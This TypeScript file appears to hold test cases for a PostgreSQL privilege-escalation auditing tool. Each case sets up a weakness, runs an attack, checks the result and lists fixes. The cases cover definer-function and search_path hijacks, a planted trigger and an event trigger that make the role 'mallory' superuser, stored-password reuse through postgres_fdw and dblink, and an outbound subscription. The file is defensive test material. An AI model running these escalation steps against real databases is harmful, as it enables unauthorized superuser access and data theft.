// Escalations by code that runs as somebody else, and by what grants give besides.

import { mallory, victim, root, SECRET, OPEN, LOOT, LOOTED, STEALS, TABLE, type Case } from './escalation-case.js';
import { hook, HOOKS } from './escalation-hooks.js';

export const CODE_CASES: readonly Case[] = [
  {
    how: 'definer-function',
    title: 'its owner reads for the caller',
    setup: [
      OPEN,
      ...SECRET,
      "CREATE FUNCTION app.peek() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = '' AS 'SELECT count(*) FROM app.secret'",
      'ALTER FUNCTION app.peek() OWNER TO victim',
    ],
    attempt: [],
    proof: mallory('SELECT app.peek() = 1'),
    stop: ['REVOKE EXECUTE ON FUNCTION app.peek() FROM PUBLIC'],
  },
  {
    how: 'definer-search-path',
    title: 'the caller says which function is called',
    setup: [
      OPEN,
      ...LOOT,
      'CREATE SCHEMA lair AUTHORIZATION mallory',
      'GRANT USAGE ON SCHEMA lair TO PUBLIC',
      "CREATE FUNCTION app.helper() RETURNS void LANGUAGE sql AS ''",
      "CREATE FUNCTION app.work() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN PERFORM helper(); END'",
      'ALTER FUNCTION app.work() OWNER TO victim',
    ],
    attempt: [
      mallory(`CREATE OR REPLACE FUNCTION lair.helper() RETURNS void LANGUAGE sql AS '${STEALS}'`),
      mallory('SET search_path = lair; SELECT app.work()'),
    ],
    proof: LOOTED,
    stop: ['TRUNCATE app.loot', 'ALTER FUNCTION app.work() SET search_path = app, pg_temp'],
  },
  {
    how: 'untrusted-function',
    title: 'internal code without its guard',
    setup: [OPEN, "CREATE FUNCTION app.size(text) RETURNS SETOF text LANGUAGE internal STRICT AS 'pg_ls_dir_1arg'"],
    attempt: [],
    proof: mallory("SELECT count(*) > 0 FROM app.size('.')"),
    stop: ['REVOKE EXECUTE ON FUNCTION app.size(text) FROM PUBLIC'],
  },
  ...HOOKS.map(hook),
  {
    how: 'function-owner',
    title: 'of a function that another role calls',
    says: 'function-owner routine',
    setup: [
      OPEN,
      ...LOOT,
      "CREATE FUNCTION app.tool() RETURNS int LANGUAGE sql AS 'SELECT 1'",
      'ALTER FUNCTION app.tool() OWNER TO mallory',
      'GRANT CREATE ON SCHEMA app TO mallory',
    ],
    attempt: [
      mallory(
        `CREATE OR REPLACE FUNCTION app.tool() RETURNS int LANGUAGE plpgsql AS $$BEGIN ${STEALS}; RETURN 1; END$$`,
      ),
      victim('SELECT app.tool()'),
    ],
    proof: LOOTED,
    stop: ['TRUNCATE app.loot', 'ALTER FUNCTION app.tool() OWNER TO pgrampart'],
  },
  {
    how: 'trigger-privilege',
    title: 'a trigger of its own runs as the writer',
    setup: [
      OPEN,
      ...LOOT,
      ...TABLE,
      'GRANT TRIGGER ON app.t TO mallory',
      'CREATE SCHEMA lair AUTHORIZATION mallory',
      'GRANT USAGE ON SCHEMA lair TO PUBLIC',
    ],
    attempt: [
      mallory(
        `CREATE OR REPLACE FUNCTION lair.f() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN ${STEALS}; RETURN NULL; END$$`,
      ),
      mallory('CREATE TRIGGER x AFTER INSERT ON app.t EXECUTE FUNCTION lair.f()'),
      victim('INSERT INTO app.t VALUES (1)'),
    ],
    proof: LOOTED,
    stop: ['DROP TRIGGER IF EXISTS x ON app.t', 'REVOKE TRIGGER ON app.t FROM mallory'],
  },
  {
    how: 'event-trigger',
    title: 'a superuser’s DDL runs it',
    setup: [
      OPEN,
      "CREATE FUNCTION app.watch() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'",
      'CREATE EVENT TRIGGER watch ON ddl_command_start EXECUTE FUNCTION app.watch()',
      'ALTER FUNCTION app.watch() OWNER TO mallory',
      'GRANT CREATE ON SCHEMA app TO mallory',
    ],
    attempt: [
      mallory(
        "CREATE OR REPLACE FUNCTION app.watch() RETURNS event_trigger LANGUAGE plpgsql AS $$BEGIN IF NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'mallory') THEN ALTER ROLE mallory SUPERUSER; END IF; EXCEPTION WHEN insufficient_privilege THEN NULL; END$$",
      ),
      root('CREATE TABLE app.anything ()'),
    ],
    proof: root("SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'"),
    stop: [
      'ALTER ROLE mallory NOSUPERUSER',
      'DROP TABLE IF EXISTS app.anything',
      'DROP EVENT TRIGGER watch',
      'ALTER ROLE mallory NOSUPERUSER',
      'ALTER FUNCTION app.watch() OWNER TO pgrampart',
      "CREATE OR REPLACE FUNCTION app.watch() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'",
      'CREATE EVENT TRIGGER watch ON ddl_command_start EXECUTE FUNCTION app.watch()',
    ],
  },
  {
    how: 'schema-create',
    title: 'names without a schema are found there first',
    setup: [
      OPEN,
      ...LOOT,
      // Before 15 everybody may create there: another way of the same kind.
      'REVOKE CREATE ON SCHEMA public FROM PUBLIC',
      'CREATE SCHEMA shared_tools',
      'GRANT USAGE ON SCHEMA shared_tools TO PUBLIC',
      'GRANT CREATE ON SCHEMA shared_tools TO mallory',
      'ALTER ROLE victim SET search_path = shared_tools, app',
      "CREATE FUNCTION app.tidy() RETURNS void LANGUAGE sql AS ''",
    ],
    attempt: [
      mallory(
        `CREATE OR REPLACE FUNCTION shared_tools.tidy() RETURNS void LANGUAGE sql AS 'INSERT INTO app.loot VALUES (current_user)'`,
      ),
      victim('SELECT tidy()'),
    ],
    proof: LOOTED,
    stop: ['DROP FUNCTION IF EXISTS shared_tools.tidy()', 'REVOKE CREATE ON SCHEMA shared_tools FROM mallory'],
  },
  {
    how: 'parameter',
    title: 'ALTER SYSTEM names a program',
    since: 15,
    setup: ['GRANT ALTER SYSTEM ON PARAMETER archive_command TO mallory'],
    attempt: [mallory("ALTER SYSTEM SET archive_command = 'true'")],
    proof: null,
    stop: ['REVOKE ALTER SYSTEM ON PARAMETER archive_command FROM mallory'],
  },
  {
    how: 'parameter',
    title: 'SET switches triggers off',
    since: 15,
    setup: ['GRANT SET ON PARAMETER session_replication_role TO mallory'],
    attempt: [],
    proof: mallory("SET session_replication_role = 'replica'; SELECT true"),
    stop: ['REVOKE SET ON PARAMETER session_replication_role FROM mallory'],
  },
  {
    how: 'user-mapping',
    title: 'a foreign table reads with the stored password',
    setup: [
      OPEN,
      ...SECRET,
      'CREATE EXTENSION postgres_fdw',
      "CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '%PORT%', dbname '%DATABASE%')",
      "CREATE USER MAPPING FOR PUBLIC SERVER far OPTIONS (user 'victim', password 'victim-password')",
      'GRANT USAGE ON FOREIGN SERVER far TO mallory',
      'CREATE SCHEMA lair AUTHORIZATION mallory',
      "ALTER ROLE victim SET search_path = ''",
    ],
    attempt: [
      mallory(
        "CREATE FOREIGN TABLE IF NOT EXISTS lair.far (a text) SERVER far OPTIONS (schema_name 'app', table_name 'secret')",
      ),
    ],
    proof: mallory("SELECT count(*) = 1 FROM lair.far WHERE a = 'canary'"),
    stop: ['DROP FOREIGN TABLE IF EXISTS lair.far', 'REVOKE USAGE ON FOREIGN SERVER far FROM mallory'],
  },
  {
    how: 'connection-function',
    title: 'dblink connects with a password of another',
    setup: [OPEN, ...SECRET, 'CREATE EXTENSION dblink SCHEMA app'],
    attempt: [],
    proof: mallory(
      "SELECT app.dblink_connect('host=127.0.0.1 port=%PORT% dbname=%DATABASE% user=victim password=victim-password') = 'OK'",
    ),
    stop: [
      'REVOKE EXECUTE ON FUNCTION app.dblink_connect(text) FROM PUBLIC',
      'REVOKE EXECUTE ON FUNCTION app.dblink_connect(text, text) FROM PUBLIC',
    ],
  },
  {
    how: 'subscription',
    title: 'the server connects to where it says',
    since: 16,
    setup: ['GRANT pg_create_subscription TO mallory', 'GRANT CREATE ON DATABASE "%DATABASE%" TO mallory'],
    attempt: [],
    proof: mallory(
      "CREATE SUBSCRIPTION s CONNECTION 'host=192.0.2.1 password=x dbname=x' PUBLICATION p WITH (connect = false); SELECT true",
    ),
    stop: [
      'REVOKE pg_create_subscription FROM mallory',
      'ALTER SUBSCRIPTION s SET (slot_name = NONE)',
      'DROP SUBSCRIPTION s',
    ],
  },
];
